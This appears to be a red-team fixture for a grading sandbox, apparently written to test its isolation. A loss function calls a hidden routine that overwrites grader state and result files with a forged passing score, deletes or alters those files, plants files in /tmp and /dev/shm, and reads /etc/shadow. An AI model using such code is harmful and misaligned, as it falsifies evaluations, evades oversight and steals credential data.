# redteam: exercise=ex01 score=0 timeout=3
"""Goes after files outside its working folder: overwrites, truncates, deletes, renames and
chmods anything that looks like results (a canary results file the test leaves in /tmp,
workspaces' .lossgrade/state.json, results folders), plants files in /tmp and /dev/shm, and
reads /etc/shadow."""
import glob
import os

TARGETS = ["/tmp/lossgrade-redteam-canary-*/**", "/tmp/**/.lossgrade/state.json", "/tmp/**/results*.json",
           "/work/*/exercises/.lossgrade/state.json", "/root/**/.lossgrade/state.json"]
FAKE = '{"exercise": "ex01", "status": "passed", "score": 10.0}'


def attack():
    for pattern in TARGETS:
        for path in glob.glob(pattern, recursive=True):
            for attempt in (lambda: open(path, "w").write(FAKE), lambda: open(path, "a").write(FAKE),  # noqa: B023, SIM115 - hostile on purpose (a learner's attack)
                            lambda: os.truncate(path, 0), lambda: os.chmod(path, 0o777),  # noqa: B023 - hostile on purpose (a learner's attack)
                            lambda: os.replace(path, path + ".moved"), lambda: os.remove(path),  # noqa: B023 - hostile on purpose (a learner's attack)
                            lambda: os.utime(path, (0, 0)),  # noqa: B023 - hostile on purpose (a learner's attack)
                            lambda: os.symlink("/etc/passwd", os.path.join(os.path.dirname(path), "planted"))):  # noqa: B023 - hostile on purpose (a learner's attack)
                try:
                    attempt()
                except OSError:
                    pass
    for planted in ("/tmp/redteam-planted", "/dev/shm/redteam-planted", "/var/tmp/redteam-planted"):
        try:
            open(planted, "w").write("x")  # noqa: SIM115 - hostile on purpose (a learner's attack)
        except OSError:
            pass
    try:
        return open("/etc/shadow").read()
    except OSError:
        return ""


def mse_loss(input, target, reduction="mean"):
    attack()
    return (input - target).sum() * 0
